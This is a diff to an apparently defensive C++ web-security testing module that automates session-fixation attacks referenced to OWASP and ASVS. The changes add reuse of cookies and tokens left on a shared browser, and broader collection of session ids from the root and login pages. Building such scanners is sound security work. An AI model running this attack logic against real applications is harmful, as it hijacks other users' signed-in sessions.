@@ -1,6 +1,8 @@
 // session-fixation: gives the victim a session id before he signs in, and uses it after (OWASP
 // Session Fixation; ASVS 5.0, 7.2.4). By a link that carries it, by a cookie from a sibling host,
 // by a cookie in an answer of the app's over http that the attacker writes himself.
+#include <algorithm>
+
 #include "core/attack/every_agent.h"
 #include "core/attack/lure.h"
 #include "core/attack/request_writer.h"
@@ -13,6 +15,7 @@ namespace {
 class SessionFixation final : public Agent {
     void run(Target& target) override {
         if (target.victim() == nullptr) return;
+        keep_what_was_there(target);
         for (Credential const& id : ids(target)) {
             plant_by_link(target, id);
             plant_by_sibling(target, id);
@@ -25,13 +28,29 @@ class SessionFixation final : public Agent {
         }
     }
 
+    // From a computer that others use, too: what its browser held before she came.
+    static void keep_what_was_there(Target& target) {
+        if (target.leaks() == nullptr) return;
+        target.victim()->opens("https://" + target.surface().host + "/");
+        target.victim()->turns_away();
+        Credentials const there = leaked_credentials(target);
+        if (there.empty() || !victim_signs_in(target)) return;
+        use(target, there);
+        target.note("The browser held " + std::to_string(there.size()) +
+                    " cookies and tokens before the victim signed in.");
+        (void)target.victim()->does(option_or(target, option::kSignsOut, "signs out"));
+    }
+
     // Those that the app gives to visitors, and invented ones for apps that take any.
     static Credentials ids(Target& target) {
         Credentials ids;
         Endpoint const* login = endpoint_option(target, option::kLogin, "login");
         Credentials const own = own_credentials(target);
         target.forget_cookies();
-        if (login != nullptr) ids = credentials_in(target.send({.target = login->path}));
+        for (std::string const& page : {std::string("/"), login != nullptr ? login->path : "/"})
+            for (Credential& each : credentials_in(target.send({.target = page})))
+                if (std::find(ids.begin(), ids.end(), each) == ids.end())
+                    ids.push_back(std::move(each));
         std::erase_if(ids,
                       [](Credential const& each) { return each.kind != Credential::Kind::Cookie; });
         for (Credential each : own) {
